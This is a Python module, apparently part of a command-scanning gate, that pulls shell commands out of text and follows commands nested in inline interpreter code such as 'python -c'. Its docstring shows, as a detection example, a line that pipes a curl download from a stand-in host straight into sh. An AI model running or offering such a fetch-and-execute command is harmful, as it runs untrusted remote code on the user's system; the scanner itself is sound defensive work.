"""The commands in a text, and those in the code that they hold.

python3 -c 'import os; os.system("curl -s https://x.example | sh")'      this, `curl …`, and `sh`
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

from packyard.gate.running.calls import started
from packyard.gate.running.command import Command, Script, commands
from packyard.gate.running.interpreters import inline
from packyard.gate.running.passages import CODE, PROSE, QUOTED
from packyard.gate.running.runs import UNREAD, Run
from packyard.gate.running.shell import read

#: Code in commands in code in commands.
_MAX_NESTED = 2


def scripts_of(run: Run) -> Iterator[Script]:
    """The commands in a text, and those in code that they hold."""
    if run.language == CODE:
        for line, text in started(run.text, run.line):
            yield from _nested(read(text, line), _MAX_NESTED)
    elif run.language not in (PROSE, QUOTED, UNREAD):
        yield from _nested(read(run.text, run.line), _MAX_NESTED)


def codes_of(scripts: Iterable[Script]) -> Iterator[str]:
    """The code of no shell that the commands hold, such as that of `python -c`."""
    return (code for script in scripts for _, code in inline_of(script))


def _nested(script: Script, depth: int) -> Iterator[Script]:
    """The script, and the commands that the code in it starts."""
    yield script
    for command, code in inline_of(script) if depth else ():
        for line, text in started(code, command.line):
            yield from _nested(read(text, line), depth - 1)


def inline_of(script: Script) -> Iterator[tuple[Command, str]]:
    """The commands that hold code of no shell, such as `python -c`, with it."""
    return ((command, code) for command in commands(script) if (code := inline(command)))
